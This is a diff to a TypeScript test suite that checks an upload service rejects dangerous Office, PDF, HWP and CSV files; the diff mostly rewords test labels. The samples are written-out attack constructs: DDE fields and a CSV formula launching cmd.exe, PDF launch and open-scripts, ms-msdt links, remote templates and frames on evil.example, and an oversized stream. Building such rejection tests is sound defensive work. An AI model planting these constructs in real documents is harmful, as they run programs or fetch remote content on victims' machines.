@@ -46,9 +46,9 @@ const scripted = (name: string) => `/OpenAction<</S/${name}/JS(app.alert\\(1\\))
 
 const bad: Record<string, Sample[]> = {
   FILE_HAS_MACROS: [
-    ['VBA in a letter', 'a.docx', () => makeLetter([part('word/vbaProject.bin', 'x')])],
+    ['VBA in a Word document', 'a.docx', () => makeLetter([part('word/vbaProject.bin', 'x')])],
     [
-      'VBA in a sheet under another name',
+      'VBA in a workbook under another name',
       'a.xlsx',
       () =>
         makeBook([part('xl/notes.bin', 'x')], {
@@ -56,7 +56,7 @@ const bad: Record<string, Sample[]> = {
         }),
     ],
     [
-      'VBA by its relationship',
+      'VBA declared by relationship',
       'a.docx',
       () => makeLetter([relsPart('word/_rels/document.xml.rels', 'vbaProject', 'x.bin', false)]),
     ],
@@ -68,42 +68,42 @@ const bad: Record<string, Sample[]> = {
     ],
     ['a dialog sheet', 'a.xlsx', () => makeBook([part('xl/dialogsheets/sheet1.xml')])],
     [
-      'macros in a workbook in a letter',
+      'macros in a workbook in a Word document',
       'a.docx',
       () => makeLetter([embed(makeBook([part('xl/vbaProject.bin', 'x')]), 'a.xlsx')]),
     ],
     [
-      'macros in an old document in a letter',
+      'macros in an old document in a Word document',
       'a.docx',
       () => makeLetter([embed(makeCompound([{ name: '_VBA_PROJECT', content: Buffer.from('x') }]))]),
     ],
-    ['a macro sheet in an old workbook in a letter', 'a.docx', () => makeLetter([embed(makeOldBook(1))])],
+    ['a macro sheet in an old workbook in a Word document', 'a.docx', () => makeLetter([embed(makeOldBook(1))])],
     ['a script in HWP', 'a.hwp', () => makeHwp([], { script: 'function OnDocument_Open() { Run("calc") }' })],
   ],
   FILE_HAS_ACTIVEX: [
-    ['ActiveX in a letter', 'a.docx', () => makeLetter([part('word/activeX/activeX1.xml')])],
+    ['ActiveX in a Word document', 'a.docx', () => makeLetter([part('word/activeX/activeX1.xml')])],
     [
-      'ActiveX in a sheet by its type',
+      'ActiveX in a workbook declared by content type',
       'a.xlsx',
       () => makeBook([part('xl/x1.xml')], { types: override('xl/x1.xml', activeX) }),
     ],
     [
-      'ActiveX by its relationship',
+      'ActiveX declared by relationship',
       'a.docx',
       () => makeLetter([relsPart('word/_rels/document.xml.rels', 'control', 'a.xml', false)]),
     ],
   ],
   FILE_HAS_PROGRAM: [
-    ['a program as a part', 'a.docx', () => makeLetter([part('word/media/image1.png', exe)])],
+    ['a program stored as a part', 'a.docx', () => makeLetter([part('word/media/image1.png', exe)])],
     ['a packed program', 'a.docx', () => makeLetter([embed(makePackage('견적.exe', 'x'))])],
     ['a packed script', 'a.docx', () => makeLetter([embed(makePackage('invoice.pdf.js', 'x'))])],
-    ['a packed program called a paper', 'a.docx', () => makeLetter([embed(makePackage('a.pdf', exe))])],
+    ['a packed program named as a document', 'a.docx', () => makeLetter([embed(makePackage('a.pdf', exe))])],
     [
-      'a packed program, large',
+      'a large packed program',
       'a.xlsx',
       () => makeBook([part('xl/embeddings/oleObject1.bin', makePackage('run.bat', Buffer.alloc(20_000, 65)))]),
     ],
-    ['a batch file as a part', 'a.xlsx', () => makeBook([part('xl/embeddings/run.bat', 'calc')])],
+    ['a batch file stored as a part', 'a.xlsx', () => makeBook([part('xl/embeddings/run.bat', 'calc')])],
     [
       'a packed program in HWP',
       'a.hwp',
@@ -123,7 +123,7 @@ const bad: Record<string, Sample[]> = {
         ),
     ],
     [
-      'a program attached to a PDF as a paper',
+      'a program attached to a PDF as a text file',
       'a.pdf',
       () =>
         makePdfWith(
@@ -132,48 +132,56 @@ const bad: Record<string, Sample[]> = {
           pdfStream('/Type/EmbeddedFile/Filter/FlateDecode', exe),
         ),
     ],
-    [
-      'the name of a program in UTF-16',
-      'a.pdf',
-      () => makePdfWith('', '<</Type/Filespec/UF<FEFF0061002E006500780065>>>'),
-    ],
+    ['a program name in UTF-16', 'a.pdf', () => makePdfWith('', '<</Type/Filespec/UF<FEFF0061002E006500780065>>>')],
   ],
   FILE_LINKS_PROGRAM: [
-    ['DDE in a letter', 'a.docx', () => makeLetter([], { body: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') })],
-    ['DDE over several runs', 'a.docx', () => makeLetter([], { body: field(' D', 'DEA', 'UTO c:\\\\cmd.exe x') })],
+    [
+      'DDE in a Word document',
+      'a.docx',
+      () => makeLetter([], { body: field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"') }),
+    ],
+    [
+      'DDE split over several runs',
+      'a.docx',
+      () => makeLetter([], { body: field(' D', 'DEA', 'UTO c:\\\\cmd.exe x') }),
+    ],
     ['DDE in a simple field', 'a.docx', () => makeLetter([], { body: '<w:fldSimple w:instr="DDE cmd x"/>' })],
     [
       'DDE in a header',
       'a.docx',
       () => makeLetter([part('word/header1.xml', `<w:hdr>${field('&#68;DE cmd x')}</w:hdr>`)]),
     ],
-    ['DDE in a sheet', 'a.xlsx', () => makeBook([part('xl/externalLinks/externalLink1.xml', dde)])],
+    ['DDE in a workbook', 'a.xlsx', () => makeBook([part('xl/externalLinks/externalLink1.xml', dde)])],
     ['DDE in a cell', 'a.xlsx', () => makeBook([], formula("cmd|'/c calc'!A0"))],
-    ['DDE in a list of values', 'a.csv', () => "품목,수량\r\n두부,=cmd|'/c calc'!A0\r\n"],
+    ['DDE in a CSV file', 'a.csv', () => "품목,수량\r\n두부,=cmd|'/c calc'!A0\r\n"],
     ['a link to a program', 'a.docx', () => makeLetter([docRel('hyperlink', 'file:///C:/Windows/System32/cmd.exe')])],
     [
-      'a link to a program of another machine',
+      'a link to a program on another machine',
       'a.docx',
       () => makeLetter([docRel('hyperlink', '\\\\10.0.0.1\\a\\setup.exe')]),
     ],
     ['a link that runs a script', 'a.xlsx', () => makeBook([bookRel('hyperlink', 'java&#115;cript:alert(1)')])],
-    ['a link by ms-msdt', 'a.docx', () => makeLetter([docRel('oleObject', 'ms-msdt:/id PCWDiagnostic')])],
-    ['a workbook that is a program', 'a.xlsx', () => makeBook([bookRel('externalLinkPath', 'file:///C:/a.xll')])],
+    ['an ms-msdt link', 'a.docx', () => makeLetter([docRel('oleObject', 'ms-msdt:/id PCWDiagnostic')])],
+    [
+      'a linked workbook that is a program',
+      'a.xlsx',
+      () => makeBook([bookRel('externalLinkPath', 'file:///C:/a.xll')]),
+    ],
   ],
   FILE_LOADS_REMOTE: [
     [
-      'a template of the web',
+      'a remote template',
       'a.docx',
       () => makeLetter([relsPart('word/_rels/settings.xml.rels', 'attachedTemplate', 'https://evil.example/a.dotm')]),
     ],
     [
-      'a template of another machine',
+      'a template on another machine',
       'a.docx',
       () =>
         makeLetter([relsPart('word/_rels/settings.xml.rels', 'attachedTemplate', 'file:///\\\\10.0.0.1\\a\\b.dotm')]),
     ],
-    ['an object of the web', 'a.docx', () => makeLetter([docRel('oleObject', 'http://evil.example/a.rtf!')])],
-    ['a frame of the web', 'a.docx', () => makeLetter([docRel('frame', 'http&#x3a;//evil.example/a.html')])],
+    ['a remote object', 'a.docx', () => makeLetter([docRel('oleObject', 'http://evil.example/a.rtf!')])],
+    ['a remote frame', 'a.docx', () => makeLetter([docRel('frame', 'http&#x3a;//evil.example/a.html')])],
     [
       'a relationship in UTF-16',
       'a.docx',
@@ -184,12 +192,12 @@ const bad: Record<string, Sample[]> = {
     ],
   ],
   FILE_HAS_SCRIPT: [
-    ['a script at the opening', 'a.pdf', () => makePdfWith(scripted('JavaScript'))],
-    ['its name behind escapes', 'a.pdf', () => makePdfWith(scripted('J#61vaS#63ript'))],
-    ['a script in an object of its own', 'a.pdf', () => makePdfWith('/OpenAction 4 0 R', script)],
+    ['a script run on opening', 'a.pdf', () => makePdfWith(scripted('JavaScript'))],
+    ['a script with an escaped name', 'a.pdf', () => makePdfWith(scripted('J#61vaS#63ript'))],
+    ['a script in a separate object', 'a.pdf', () => makePdfWith('/OpenAction 4 0 R', script)],
     ['a script in an object stream', 'a.pdf', () => makePdfWith('/OpenAction 9 0 R', pdfObjects(script))],
     [
-      'an object stream packed twice',
+      'an object stream compressed twice',
       'a.pdf',
       () =>
         makePdfWith(
@@ -202,7 +210,7 @@ const bad: Record<string, Sample[]> = {
         ),
     ],
     [
-      'an object stream that is not packed',
+      'an uncompressed object stream',
       'a.pdf',
       () =>
         makePdfWith(
@@ -235,37 +243,33 @@ const bad: Record<string, Sample[]> = {
   ],
   FILE_STARTS_PROGRAM: [
     ['a PDF that starts a program', 'a.pdf', () => makePdfWith('/OpenAction<</S/Launch/Win<</F(cmd)/P(/c calc)>>>>')],
-    ['the same in an object stream', 'a.pdf', () => makePdfWith('', pdfObjects('<</S/La#75nch/F(a.pdf)>>'))],
+    ['a program start in an object stream', 'a.pdf', () => makePdfWith('', pdfObjects('<</S/La#75nch/F(a.pdf)>>'))],
   ],
   FILE_LOCKED: [
-    [
-      'a locked PDF whose objects cannot be looked at',
-      'a.pdf',
-      () => makePdfWith('/Encrypt 8 0 R', pdfObjects('<</A 1>>')),
-    ],
-    ['a locked HWP', 'a.hwp', () => makeHwp([], { flags: 3 })],
+    ['an encrypted PDF with unreadable objects', 'a.pdf', () => makePdfWith('/Encrypt 8 0 R', pdfObjects('<</A 1>>'))],
+    ['an encrypted HWP', 'a.hwp', () => makeHwp([], { flags: 3 })],
   ],
   FILE_UNSAFE: [
     [
-      'an object stream that bursts',
+      'an oversized object stream',
       'a.pdf',
       () =>
         makePdfWith('', pdfStream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', Buffer.alloc(40 * 1024 * 1024, 32))),
     ],
     [
-      'an object stream in a packing that nobody uses',
+      'an object stream with an unusual filter',
       'a.pdf',
       () => makePdfWith('', pdfStream('/Type/ObjStm/N 1/First 4/Filter/LZWDecode', script)),
     ],
     [
-      'a list of links with entities',
+      'relationships with XML entities',
       'a.docx',
       () => makeLetter([part('word/_rels/document.xml.rels', '<!DOCTYPE x [<!ENTITY a "http">]><Relationships/>')]),
     ],
   ],
 }
 
-describe.each(Object.entries(bad))('refuses with %s', (code, samples) => {
+describe.each(Object.entries(bad))('rejects with %s', (code, samples) => {
   test.each(samples)('%s', async (_what, name, make) => {
     const { status, problem } = await send(mall, token, name, await make())
     expect([problem.code, status]).toEqual([code, 422])
@@ -273,11 +277,11 @@ describe.each(Object.entries(bad))('refuses with %s', (code, samples) => {
   })
 })
 
-/** The head of a photo as an iPhone keeps it: a box of type `ftyp`, brand `heic`. */
+/** The header of an iPhone photo: an `ftyp` box of brand `heic`. */
 const heic = Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(400, 7)])
 
 test.each(['IMG_0001.HEIC', '사진.heif', '사진.jpg'])(
-  'refuses a HEIC photo called %s, and says how to get a JPG',
+  'rejects a HEIC photo named %s, and explains how to get a JPG',
   async (name) => {
     const { status, problem } = await send(mall, token, name, heic)
     expect([problem.code, status]).toEqual(['FILE_IS_HEIC', 415])
@@ -286,13 +290,13 @@ test.each(['IMG_0001.HEIC', '사진.heif', '사진.jpg'])(
 )
 
 test.each(['a.xls', 'a.doc', 'a.ppt', 'a.xlsm', 'a.docm', 'a.xlsb', 'a.rtf'])(
-  'does not take %s at all',
+  'rejects the file type of %s',
   async (name) => {
     const { problem } = await send(mall, token, name, makeOldBook(0))
     expect(problem.code).toBe('FILE_KIND_REFUSED')
   },
 )
 
-test('is tried with at least thirty of them', () => {
+test('covers more than 30 samples', () => {
   expect(Object.values(bad).flat().length).toBeGreaterThan(30)
 })
